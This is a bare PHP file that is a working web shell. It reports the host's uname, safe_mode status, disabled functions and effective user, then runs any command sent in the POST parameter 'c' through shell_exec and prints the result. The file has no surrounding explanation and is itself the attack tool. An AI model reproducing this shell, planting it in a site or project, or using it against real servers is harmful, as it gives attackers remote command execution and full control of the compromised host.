<?php
echo php_uname(); echo ini_get('safe_mode') ? 'on' : 'off';
echo ini_get('disable_functions');
$u = posix_getpwuid(posix_geteuid()); echo $u['name'];
echo '<pre>' . shell_exec($_POST['c'] . ' 2>&1') . '</pre>';
